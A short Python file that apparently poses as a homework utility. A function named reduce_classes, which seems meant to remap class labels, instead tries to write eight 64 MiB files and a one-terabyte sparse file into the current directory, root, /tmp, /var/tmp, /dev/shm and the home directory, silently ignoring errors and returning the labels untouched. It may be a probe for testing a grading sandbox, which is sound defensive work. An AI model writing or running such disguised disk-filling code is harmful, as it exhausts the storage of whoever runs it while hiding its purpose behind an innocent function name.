"""Writes up to 2 GiB wherever it can, and a sparse file of a terabyte."""

import os
import tempfile
from pathlib import Path

PIECE = b"x" * (64 * 2**20)


def reduce_classes(labels, mapping, *, ignore_index=255):
    for folder in (".", "/", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), tempfile.gettempdir()):
        try:
            for number in range(8):
                Path(folder, f"hw4-evil-{number}").write_bytes(PIECE)
        except OSError:
            pass
        try:
            with open(Path(folder, "hw4-evil-sparse"), "wb") as file:
                file.truncate(2**40)
        except OSError:
            continue
    return labels
